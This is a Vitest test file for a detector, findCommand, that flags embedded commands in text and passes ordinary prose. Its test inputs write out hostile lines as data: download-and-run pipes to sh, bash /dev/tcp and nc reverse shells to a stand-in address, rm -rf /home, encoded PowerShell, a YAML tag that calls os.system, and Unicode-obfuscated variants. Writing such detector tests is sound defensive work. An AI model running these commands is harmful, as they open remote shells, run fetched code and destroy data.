import { describe, expect, it } from 'vitest';
import { findCommand } from './find-command.ts';

describe('findCommand', () => {
  it.each([
    ['import os; os.system("id")', 'Python that starts a program'],
    ['subprocess.check_output(["id"])', 'Python that starts a program'],
    ['__import__("os").popen("id")', 'Python that runs code'],
    ['exec(base64.b64decode("cHJpbnQoMSk="))', 'Python that runs code'],
    ['pickle.loads(data)', 'Python that runs code'],
    ['#!/bin/sh\necho inert', 'a script'],
    ['curl -s http://192.0.2.1/a | sh', 'a download that is run'],
    ['wget -qO- http://192.0.2.1/a.py|python3', 'a download that is run'],
    ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'a reverse shell'],
    ['nc 192.0.2.1 4444 -e /bin/sh', 'a reverse shell'],
    ['$(whoami)', 'a shell command'],
    ['rm -rf /home', 'a shell command'],
    ['echo ZWNobyBpbmVydA== | base64 -d | sh', 'an encoded command that is run'],
    ['note: !!python/object/apply:os.system ["id"]', 'a tag that makes a YAML reader call'],
    ["getattr(__builtins__, 'ev' + 'al')('1')", 'Python that reaches a name by its parts'],
    ["ctypes.CDLL('/tmp/x.so')", 'Python that reaches a name by its parts'],
    ['{"note": "\\u0063url http://192.0.2.1/a | sh"}', 'a download that is run'],
    ['ｉｍｐｏｒｔ ｏｓ; ｏｓ.ｓｙｓｔｅｍ("id")', 'Python that starts a program'],
    ['im\u200bport os; os.sys\u200btem("id")', 'Python that starts a program'],
    ['powershell -nop -w hidden -enc SQBFAFgA', 'a Windows command'],
    ["<script>alert('x')</script>", 'a script of a web page'],
    ['().__class__.__mro__[1].__subclasses__()', 'Python that walks to builtins'],
    ["cos\nsystem\n(S'id'\ntR.", 'a pickle in plain text'],
  ])('finds %j', (text, what) => expect(findCommand(text)?.what).toBe(what));

  it.each([
    'A model for images. See https://example.org/model and run it with `python generate.py --model x`.',
    'Use `pip install transformers` and then `from transformers import AutoModel; model = AutoModel.from_pretrained("x")`.',
    'model.eval() is called before exec and system calls are measured; subprocesses run the curl benchmark.',
    '  File "/usr/lib/python3.11/site-packages/torch/nn/modules/conv.py", line 460, in forward\n    return self._conv_forward(input, self.weight)',
    '{"ss_network_args": null, "ss_tag_frequency": {"cat": 3}, "modelspec.date": "2024-01-01"}',
    '{% for message in messages %}{{ message["content"] }}{% endfor %}',
    'echo "hello"; ls -la',
    'The reward (`R`) of the system',
    'Paths such as C:\\\\users\\\\x41 and text with \\u00e9 are kept; getattr(model, name) is used.',
    'Apache-2.0',
  ])('takes %j for prose', (text) => expect(findCommand(text)).toBeUndefined());

  it('costs no more than the length of a text that almost matches', () => {
    const started = performance.now();
    for (const piece of [
      'curl ',
      'nc ',
      '__import__ ',
      '$( ',
      '<script ',
      'powershell ',
      'subprocess.run ',
      '/dev/tcp/a',
    ])
      findCommand(piece.repeat(50_000));
    expect(performance.now() - started).toBeLessThan(4000);
  });
});
